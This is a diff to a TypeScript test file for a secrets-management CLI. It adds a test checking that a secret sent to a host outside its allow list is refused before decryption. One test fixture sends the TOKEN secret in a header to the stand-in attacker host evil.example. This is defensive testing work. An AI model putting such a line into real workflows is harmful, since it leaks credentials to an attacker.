@@ -15,7 +15,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type Built, build } from '../built.js';
 import { DEPLOY, DEVELOPERS, PROJECT } from '../canary/scenarios.js';
 import { run } from '../cli/run.js';
-import { project } from '../project.js';
+import { project, store } from '../project.js';
 
 /** A copy of the committed project, to be changed. */
 function stores(): string {
@@ -181,6 +181,29 @@ rules: { duplicate-secret: off }
     const { code, out, err } = await run(root, ['render', '-e', 'default', '--stdout']);
     expect([code, out]).toEqual([1, '']);
     expect(err).toContain('error[duplicate-secret]');
+  });
+
+  it('a secret where it is not permitted is refused before anything is decrypted, whatever is ignored', async () => {
+    const root = project({
+      'claviger.yaml': `version: 1
+stores: [{ files: a.yaml }]
+catalogs: [{ files: catalog.yaml }]
+workflows: [{ files: "flow.yaml", engine: orka }]
+rules: { use-not-allowed: off }
+ignore: [{ rule: use-not-allowed, reason: "not for render" }]
+`,
+      'a.yaml': store('TOKEN'),
+      'catalog.yaml': 'TOKEN: { allow: { hosts: [api.example.com] } }\n',
+      'flow.yaml': 'url: https://evil.example/\nheaders: { a: "{{secrets.TOKEN}}" }\n',
+    });
+    const { code, out, err } = await run(root, ['render', '-e', 'default', '--stdout']);
+    expect([code, out]).toEqual([1, '']);
+    expect(err).toContain('error[use-not-allowed]: `TOKEN` may not be sent to evil.example');
+    writeFileSync(
+      join(root, 'flow.yaml'),
+      'url: https://api.example.com/\nheaders: { a: "{{secrets.TOKEN}}" }\n',
+    );
+    expect((await run(root, ['render', '-e', 'default', '--stdout'])).code).toBe(3);
   });
 
   it('a name that the engine refuses and nobody has is refused, whatever the project file says of the rule', async () => {
